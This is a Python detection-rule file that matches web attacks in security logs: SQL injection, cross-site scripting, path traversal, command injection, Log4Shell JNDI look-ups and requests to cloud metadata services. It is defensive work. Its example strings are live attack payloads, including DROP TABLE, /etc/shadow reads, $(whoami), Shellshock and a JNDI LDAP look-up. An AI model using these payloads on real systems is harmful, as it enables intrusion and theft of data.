"""Attempts to make a program run what came in: SQL, scripts, paths, commands, look-ups, requests.

Programs that log their own SQL, HTML or relative paths must not be found. So the patterns want the mark of
input: a parameter of a URL, a quote that is closed early, a target that only attackers ask for.
"""

from typing import Final

from logs.securityevents.detection import EXPLOIT, Detection, Sort

_WHERE: Final = r"(?:[?&][\w.\[\]-]{1,40}=|\b(?:GET|POST|PUT|HEAD|DELETE|PATCH) /)[^\s]*?"
_GAP: Final = r"(?:[\s+]|/\*[^*\n]{0,40}\*/|%20)+"

INJECTIONS: Final = (
    Detection(
        "sql_tautology", "SQL injection: condition that is always true", Sort.INJECTION, 3, EXPLOIT,
        rf"(?i)(?:=|[?&][\w.-]{{1,40}}=|user(?:name)? )[\w@.%+-]*['\"]\)*{_GAP}(?:or|and|\|\|"
        rf"|&&){_GAP}\(*['\"]?(?:\w{{1,20}}['\"]?\s*(?:=|like)\s*['\"]?\w{{1,20}}|true"
        rf"|not{_GAP})[^\n]{{0,40}}?(?:--|#|/\*|'|\"|;|(?m:$)|[ &])",
        ("GET /items?id=1' OR '1'='1", "login user=admin' or 1=1 --", 'q=x" or "a"="a'),
        (
            "SELECT * FROM t WHERE a = 'x' AND b = 1",
            "name='O''Brien' or similar",
            "status=ok and 3 = 3 retries",
        ),
    ),
    Detection(
        "sql_union", "SQL injection: union", Sort.INJECTION, 3, EXPLOIT,
        rf"(?i)(?:{_WHERE}|['\")] *)union{_GAP}(?:all{_GAP})?select{_GAP}(?:null|[0-9]+ *,|@@|char\("
        rf"|concat\(|[\w,]+{_GAP}from{_GAP}(?:information_schema|users|mysql|pg_|sqlite_))",
        ("GET /p?id=-1+UNION+ALL+SELECT+null,null-- HTTP/1.1", "name=x' UNION SELECT 1,2,3#"),
        ("SELECT a FROM x UNION SELECT b FROM y", "union of select members"),
    ),
    Detection(
        "sql_stacked", "SQL injection: second statement, or wait", Sort.INJECTION, 4, EXPLOIT,
        rf"(?i)(?:['\"]\)*\s*;\s*(?:drop|truncate|alter|delete{_GAP}from|insert{_GAP}into|exec"
        rf"|shutdown)\b[^\n]{{0,100}}--|['\"0-9)]{_GAP}?(?:;|or|and|\|\|){_GAP}?(?:select{_GAP})?"
        rf"(?:pg_sleep|sleep|benchmark)\([0-9]|waitfor{_GAP}delay{_GAP}'|xp_cmdshell)",
        (
            "name='; DROP TABLE users; --",
            "id=1 AND SLEEP(5)",
            "x'; WAITFOR DELAY '0:0:5'--",
            "1;exec xp_cmdshell 'dir'",
        ),
        ("DROP TABLE tmp_1;", "thread sleep(5) done", "INSERT INTO t VALUES ('a');"),
    ),
    Detection(
        "script", "Cross-site scripting", Sort.INJECTION, 3, EXPLOIT,
        r"(?i)(?:<script[^>\n]{0,80}>[^<\n]{0,80}(?:alert|prompt|confirm|eval|document\.|window\."
        r"|fetch)|[?&=\"'][^\n]*<script\b|<(?:img|svg|iframe|body|input|details"
        r"|video)\b[^>\n]{0,100}\bon[a-z]{3,20}\s*=|[?&][\w.-]{1,40}=\s*javascript:)",
        (
            "GET /?q=<script>alert(1)</script>",
            "comment: <img src=x onerror=alert(1)>",
            "next?url=javascript:fetch(1)",
        ),
        ("loaded script main.js", "rendered <img src='/a.png'>", "the javascript: label"),
    ),
    Detection(
        "path", "Path traversal", Sort.INJECTION, 3, EXPLOIT,
        rf"(?i)(?:(?:\.\.[/\\]|\.\.;/){{1,20}}(?:[\w.-]{{1,40}}[/\\]){{0,6}}(?:passwd|shadow|win\.ini"
        rf"|boot\.ini|id_rsa|\.env|web\.xml|environ)\b|{_WHERE}(?:\.\.[/\\]){{2,20}}"
        rf"|[?&][\w.-]{{1,40}}=(?:file://)?/(?:etc/(?:passwd|shadow)|proc/self/))",
        ("GET /static/../../../../etc/passwd", "GET /d?f=..\\..\\windows\\win.ini", "open?name=/etc/shadow"),
        ("Module not found: '../../lib/util'", "reading /etc/passwd", "at ../src/a.ts:3"),
    ),
    Detection(
        "command", "Command injection", Sort.INJECTION, 4, EXPLOIT,
        rf"(?i)(?:{_WHERE}(?:;|\||&&|`|\$\()[\s+]*(?:/bin/|/usr/bin/)?(?:cat|wget|curl|nc|bash|sh|id"
        rf"|whoami|uname|ping|powershell|rm|chmod|python3?|perl)\b"
        rf"|[?&][\w.-]{{1,40}}=[^\n&]{{0,60}}[;|`][\s+]*(?:cat|wget|curl|nc|bash|sh|whoami|id|uname"
        rf"|ping)\b[\s+]*[^\n]{{0,40}}|\(\)\s?\{{\s?:;\s?\}}\s?;)",
        (
            "GET /ping?host=192.0.2.1;cat+/tmp/x",
            "GET /r?c=$(whoami)",
            "ua: () { :;}; /bin/bash -c x",
            "GET /x?a=1|id",
        ),
        ("ran: cat file | sh done", "GET /search?q=cat+food", "GET /a?ids=1;2;3"),
    ),
    Detection(
        "lookup", "JNDI look-up (Log4Shell)", Sort.INJECTION, 5, EXPLOIT,
        r"(?i)\$\{\s{0,4}(?:jndi\s{0,4}:|(?:[^{}\n]{0,24}\$\{[^{}\n]{0,24}\}){1,12}[^{}\n]{0,40}"
        r"(?:ldaps?|rmi|dns|iiop|corba|nis|http)[^\n]{0,4}:)",
        (
            "ua=${jndi:ldap://192.0.2.9/a}",
            "x ${${lower:j}${lower:n}di:ldap://h/a}",
            "${${::-j}ndi:rmi://h/a}",
        ),
        ("${env:HOME} resolved", "jndi: bound jdbc/shop", "${project.version}"),
    ),
    Detection(
        "metadata", "Request forged to a cloud's metadata", Sort.INJECTION, 4, EXPLOIT,
        r"(?i)[?&][\w.\[\]-]{1,40}=(?:https?(?::|%3a)(?:/|%2f){2})?(?:[^\s&\n]{0,40}@)?"
        r"(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|\[?fd00:ec2::254"
        r"|2852039166|0xa9fea9fe)",
        ("GET /fetch?url=http://169.254.169.254/latest/meta-data/", "GET /p?u=metadata.google.internal/x"),
        ("fetching http://169.254.169.254/latest/api/token", "route 169.254.169.254 added"),
    ),
)  # fmt: skip
